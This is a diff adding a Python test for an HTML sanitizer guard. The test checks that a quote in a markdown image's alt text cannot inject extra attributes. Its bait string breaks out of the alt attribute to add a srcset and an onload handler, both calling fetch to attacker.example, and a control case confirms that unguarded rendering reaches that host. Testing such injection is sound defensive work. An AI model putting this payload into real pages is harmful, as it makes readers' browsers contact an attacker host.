@@ -203,6 +203,23 @@ def test_nothing_is_fetched_and_nothing_is_live(page: Any, world: World, text: s
     assert set(live) <= {LINK}
 
 
+def test_a_quote_in_an_alt_adds_no_attribute(page: Any, world: World) -> None:
+    """marked writes an alt between quotes as it stands: unescaped, the second source and the handler would be its own."""
+    image = "https://img.partner.example/pub/quote.png"  # its own: what was drawn once is not asked for again
+    bait = 'a" srcset="https://attacker.example/s 1x" onload="fetch(`https://attacker.example/h`)" x="'
+
+    def hosts(markdown: str) -> set[str]:
+        draw(page, markdown, "")
+        settle(page, world, lambda: bool(ours(world)))
+        found = {host for host, _ in ours(world)}
+        world.seen.clear()
+        return found
+
+    world.seen.clear()
+    assert hosts(Guard(POLICY).markdown(f"![{bait}]({image})").text) <= {"img.partner.example"}
+    assert "attacker.example" in hosts(f"![{bait}]({image})")  # the control
+
+
 @given(st.lists(PAYLOADS, min_size=25, max_size=25))
 @settings(
     max_examples=8, deadline=None, database=None, phases=[Phase.generate], suppress_health_check=list(HealthCheck)
